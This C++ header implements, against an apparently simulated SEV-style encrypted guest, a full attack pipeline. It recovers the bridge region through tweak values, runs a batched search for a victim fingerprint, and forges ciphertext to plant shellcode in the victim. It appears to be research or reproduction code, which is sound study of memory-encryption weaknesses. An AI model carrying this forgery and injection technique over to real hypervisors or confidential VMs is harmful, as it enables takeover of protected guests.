#pragma once

#include <chrono>
#include <cstdint>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include "sevsim/guest.hpp"
#include "sevsim/tweak.hpp"

namespace sevsim {

/// Everything the attacker brings: recovered (or bundled) tweak parameters,
/// the victim fingerprint with its known in-page offset, the known in-page
/// offset of the bridge, and the payload. Batch width is kBridgeGroups.
struct AttackPlan {
    TweakTable table = TweakTable::table1();
    Block cc;
    std::uint16_t bridge_offset = 0x150;
    std::uint16_t cc_page_offset = 0xe90;
    Shellcode shellcode = kDefaultShellcode;

    static AttackPlan from_scenario(const ScenarioConfig& cfg,
                                    TweakTable attacker_table = TweakTable::table1()) {
        AttackPlan plan;
        plan.table = std::move(attacker_table);
        plan.cc = cfg.cc();
        plan.bridge_offset = cfg.bridge_offset;
        plan.cc_page_offset = cfg.cc_offset;
        plan.shellcode = cfg.shellcode;
        return plan;
    }
};

/// Bridge search: inject T(o_1)..T(o_62) computed from in-page offsets only,
/// then scan the full ciphertext dump for 62 consecutive equal blocks at the
/// bridge offset of some page. Page-number bits contribute one common tweak
/// term to all 62 blocks, so the true bridge collapses to equal ciphertexts
/// no matter which page it landed in. Returns every candidate found: none
/// means not found, more than one means the scan was ambiguous.
inline std::vector<PhysAddr> find_bridge(AttackSurface& guest, const TweakTable& table,
                                         std::uint16_t bridge_offset) {
    std::vector<std::uint8_t> payload;
    payload.reserve(kBridgeBytes);
    for (std::size_t i = 0; i < kBridgeGroups; ++i) {
        Block t = tweak_of(table, PhysAddr{bridge_offset + Block::kSize * i});
        payload.insert(payload.end(), t.bytes.begin(), t.bytes.end());
    }
    guest.inject(payload);

    std::vector<std::uint8_t> dump = guest.hv_read_cipher(PhysAddr{0}, guest.size_bytes());
    std::vector<PhysAddr> candidates;
    for (std::uint64_t page = 0; page < guest.page_count(); ++page) {
        const std::uint8_t* base = dump.data() + page * kPageSize + bridge_offset;
        bool equal = true;
        for (std::size_t i = 1; i < kBridgeGroups && equal; ++i)
            equal = std::equal(base, base + Block::kSize, base + Block::kSize * i);
        if (equal) candidates.push_back(PhysAddr{page * kPageSize + bridge_offset});
    }
    return candidates;
}

struct CcSearchResult {
    std::optional<PhysAddr> pcc;
    std::uint32_t rounds = 0;
};

/// One batched probe round over at most 62 candidate addresses: bridge block
/// j is loaded with CC xor T((BPA+16j) xor CAND_j); its ciphertext equals the
/// candidate's stored ciphertext exactly when the candidate holds CC.
inline std::optional<PhysAddr> probe_cc_batch(AttackSurface& guest, const AttackPlan& plan,
                                              PhysAddr bpa, std::span<const PhysAddr> batch) {
    std::vector<std::uint8_t> payload;
    payload.reserve(batch.size() * Block::kSize);
    for (std::size_t j = 0; j < batch.size(); ++j) {
        PhysAddr bridge_block{bpa.value + Block::kSize * j};
        Block g = plan.cc ^ tweak_of(plan.table, PhysAddr{bridge_block.value ^ batch[j].value});
        payload.insert(payload.end(), g.bytes.begin(), g.bytes.end());
    }
    guest.inject(payload);

    std::vector<std::uint8_t> bridge_cipher = guest.hv_read_cipher(bpa, payload.size());
    for (std::size_t j = 0; j < batch.size(); ++j) {
        std::vector<std::uint8_t> cand_cipher = guest.hv_read_cipher(batch[j], Block::kSize);
        if (std::equal(cand_cipher.begin(), cand_cipher.end(),
                       bridge_cipher.begin() + static_cast<std::ptrdiff_t>(Block::kSize * j)))
            return batch[j];
    }
    return std::nullopt;
}

/// Searches the given candidate addresses in batches of 62.
inline CcSearchResult find_cc_among(AttackSurface& guest, const AttackPlan& plan, PhysAddr bpa,
                                    std::span<const PhysAddr> candidates) {
    CcSearchResult result;
    for (std::size_t start = 0; start < candidates.size(); start += kBridgeGroups) {
        std::size_t n = std::min(kBridgeGroups, candidates.size() - start);
        ++result.rounds;
        if (auto hit = probe_cc_batch(guest, plan, bpa, candidates.subspan(start, n))) {
            result.pcc = *hit;
            return result;
        }
    }
    return result;
}

/// Candidate enumeration: every page's base plus the known in-page offset,
/// ascending. Candidates inside the bridge itself would trivially match the
/// probe block written over them, so they are skipped; the attacker knows BPA.
inline CcSearchResult find_cc(AttackSurface& guest, const AttackPlan& plan, PhysAddr bpa) {
    std::vector<PhysAddr> candidates;
    candidates.reserve(guest.page_count());
    for (std::uint64_t page = 0; page < guest.page_count(); ++page) {
        PhysAddr cand{page * kPageSize + plan.cc_page_offset};
        if (cand.value + Block::kSize > bpa.value && cand.value < bpa.value + kBridgeBytes) continue;
        candidates.push_back(cand);
    }
    return find_cc_among(guest, plan, bpa, candidates);
}

/// Forges the victim's ciphertext: inject shellcode masked per block with
/// T((PCC+16k) xor (BPA+16k)), read the resulting 48 bridge ciphertext bytes
/// and write them over PCC through the ciphertext view.
inline void inject_shellcode(AttackSurface& guest, const AttackPlan& plan, PhysAddr bpa,
                             PhysAddr pcc) {
    std::vector<std::uint8_t> payload;
    payload.reserve(kShellcodeSize);
    for (std::size_t k = 0; k < kShellcodeSize / Block::kSize; ++k) {
        Block sc = Block::from_bytes(
            std::span<const std::uint8_t>(plan.shellcode.bytes).subspan(Block::kSize * k, Block::kSize));
        Block mask = tweak_of(plan.table, PhysAddr{(pcc.value + Block::kSize * k) ^
                                                   (bpa.value + Block::kSize * k)});
        Block forged = sc ^ mask;
        payload.insert(payload.end(), forged.bytes.begin(), forged.bytes.end());
    }
    guest.inject(payload);
    std::vector<std::uint8_t> cipher = guest.hv_read_cipher(bpa, kShellcodeSize);
    guest.hv_write_cipher(pcc, cipher);
}

struct AttackReport {
    enum class Outcome { ShellcodeActive, Failed };

    Outcome outcome = Outcome::Failed;
    std::string failure_reason;  // BridgeNotFound | CcNotFound | VictimCorrupted
    std::size_t bridge_candidates = 0;
    std::optional<PhysAddr> bpa;
    std::optional<PhysAddr> pcc;
    std::uint32_t cc_rounds = 0;
    double find_bridge_ms = 0.0;  // timing is informational and kept out of
    double find_cc_ms = 0.0;      // report files so runs stay byte-comparable
    double inject_ms = 0.0;

    bool succeeded() const { return outcome == Outcome::ShellcodeActive; }

    std::string to_text() const {
        std::ostringstream os;
        os << "bridge_candidates=" << bridge_candidates << '\n';
        os << "bpa=" << (bpa ? "0x" + to_hex_u64(bpa->value) : "none") << '\n';
        os << "pcc=" << (pcc ? "0x" + to_hex_u64(pcc->value) : "none") << '\n';
        os << "cc_rounds=" << cc_rounds << '\n';
        os << "outcome=" << (succeeded() ? "ShellcodeActive" : "Failed(" + failure_reason + ")")
           << '\n';
        return os.str();
    }

    std::string timing_text() const {
        char buf[160];
        std::snprintf(buf, sizeof buf,
                      "find_bridge_ms=%.2f\nfind_cc_ms=%.2f\ninject_ms=%.2f\n",
                      find_bridge_ms, find_cc_ms, inject_ms);
        return buf;
    }
};

/// Full pipeline: bridge search, batched CC search, forgery, victim probe.
/// If the bridge scan is ambiguous every candidate is tried in order.
inline AttackReport run_attack(AttackSurface& guest, const AttackPlan& plan) {
    using clock = std::chrono::steady_clock;
    auto ms_since = [](clock::time_point t0) {
        return std::chrono::duration<double, std::milli>(clock::now() - t0).count();
    };

    AttackReport report;
    auto t0 = clock::now();
    std::vector<PhysAddr> bridges = find_bridge(guest, plan.table, plan.bridge_offset);
    report.find_bridge_ms = ms_since(t0);
    report.bridge_candidates = bridges.size();
    if (bridges.empty()) {
        report.failure_reason = "BridgeNotFound";
        return report;
    }

    for (PhysAddr bpa : bridges) {
        report.bpa = bpa;
        t0 = clock::now();
        CcSearchResult cc = find_cc(guest, plan, bpa);
        report.find_cc_ms += ms_since(t0);
        report.cc_rounds = cc.rounds;
        if (!cc.pcc) continue;
        report.pcc = cc.pcc;

        t0 = clock::now();
        inject_shellcode(guest, plan, bpa, *cc.pcc);
        report.inject_ms = ms_since(t0);
        if (guest.victim_check(plan.shellcode) == VictimStatus::ShellcodeActive) {
            report.outcome = AttackReport::Outcome::ShellcodeActive;
            return report;
        }
        report.failure_reason = "VictimCorrupted";
        return report;
    }
    report.failure_reason = "CcNotFound";
    return report;
}

}  // namespace sevsim
